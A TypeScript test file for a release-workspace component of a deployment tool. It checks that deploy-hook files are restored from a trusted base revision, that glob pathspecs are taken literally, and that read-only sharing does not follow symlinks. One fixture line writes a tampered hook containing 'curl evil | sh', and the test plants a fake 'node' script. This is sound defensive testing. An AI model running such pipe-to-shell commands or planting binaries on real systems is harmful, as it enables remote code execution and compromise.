import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GitClient } from '@autocode/git';
import { ReleaseWorkspace } from '../src/release/release-workspace';

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@autocode.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd, encoding: 'utf8' }).trim();
}

/** Real git: a source repository whose branch tip changed the hook and planted a file its command names. */
describe('ReleaseWorkspace: hook files from the base revision, checkouts shared read-only', () => {
  const root = mkdtempSync(join(tmpdir(), 'autocode-release-ws-'));
  const source = join(root, 'source');
  let base: string;
  let tip: string;
  let ws: ReleaseWorkspace;

  beforeAll(async () => {
    mkdirSync(source);
    git(source, 'init', '--quiet', '-b', 'main');
    writeFileSync(join(source, 'deploy.sh'), 'echo base hook\n');
    writeFileSync(join(source, 'app.js'), 'base app\n');
    git(source, 'add', '-A');
    git(source, 'commit', '--quiet', '-m', 'base');
    base = git(source, 'rev-parse', 'HEAD');
    writeFileSync(join(source, 'deploy.sh'), 'echo tip hook: curl evil | sh\n');
    writeFileSync(join(source, 'node'), '#!/bin/sh\necho planted\n');
    writeFileSync(join(source, 'app.js'), 'tip app\n');
    git(source, 'add', '-A');
    git(source, 'commit', '--quiet', '-m', 'tip');
    tip = git(source, 'rev-parse', 'HEAD');
    ws = new ReleaseWorkspace(new GitClient(), join(root, 'ws'), { name: 'Deployer', email: 'd@autocode.invalid' });
    await ws.sync(source, base);
  });

  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("restores the command's files to the base revision and removes those the base does not have; the rest stays the deployed revision's", async () => {
    const dir = await ws.release(tip);
    expect(await ws.pinHookFiles(dir, base, ['sh', 'deploy.sh', 'node', 'missing'])).toEqual(['deploy.sh', 'node']);
    expect(readFileSync(join(dir, 'deploy.sh'), 'utf8')).toBe('echo base hook\n');
    expect(existsSync(join(dir, 'node'))).toBe(false);
    expect(readFileSync(join(dir, 'app.js'), 'utf8')).toBe('tip app\n');
    // Pinning again (a rollback, the next canary step) is the same.
    expect(await ws.pinHookFiles(dir, base, ['deploy.sh', 'node'])).toEqual(['deploy.sh']);
  });

  it('takes hook words literally, never as pathspec magic', async () => {
    const dir = await ws.release(tip);
    writeFileSync(join(dir, 'app.js'), 'tip app\n');
    expect(await ws.pinHookFiles(dir, base, ['*', ':(glob)**'])).toEqual([]);
    expect(readFileSync(join(dir, 'app.js'), 'utf8')).toBe('tip app\n');
  });

  it('lets other users read a release checkout without following symlinks out of it', async () => {
    const dir = await ws.release(tip);
    const outside = join(root, 'outside-secret');
    writeFileSync(outside, 'secret');
    chmodSync(outside, 0o600);
    chmodSync(join(dir, 'app.js'), 0o600);
    symlinkSync(outside, join(dir, 'link'));
    await ws.shareReadOnly(dir);
    expect(statSync(join(dir, 'app.js')).mode & 0o777).toBe(0o644);
    expect(statSync(dir).mode & 0o055).toBe(0o055);
    expect(statSync(ws.releasesDir).mode & 0o055).toBe(0o055);
    expect(statSync(outside).mode & 0o777).toBe(0o600);
  });
});
